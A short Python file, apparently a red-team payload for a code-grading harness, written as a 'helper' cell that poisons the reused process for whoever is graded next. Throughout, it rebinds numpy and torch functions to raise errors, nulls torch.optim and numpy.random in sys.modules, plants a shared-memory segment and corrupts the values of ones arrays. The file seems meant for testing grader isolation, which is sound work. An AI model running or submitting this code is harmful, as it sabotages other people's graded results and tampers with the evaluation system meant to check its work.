# aims at: records, denial
# cell: helper
# Poisons the libraries of the warm process, for whoever is graded next.
import sys
from multiprocessing import shared_memory

import numpy as np
import torch

np.median = np.array = np.zeros = torch.allclose = lambda *args, **kwargs: 1 / 0
np.random.default_rng = lambda *args: 1 / 0
torch.nn.Linear.forward = lambda *args: 1 / 0
for name in list(sys.modules):
    if name.startswith(("torch.optim", "numpy.random")):
        sys.modules[name] = None
segment = shared_memory.SharedMemory("red-team-planted", create=True, size=4096)
segment.buf[:6] = b"poison"
np.asarray(np.float64).flags if False else None
for value in (np.ones(1), torch.ones(1)):
    value[0] = 5
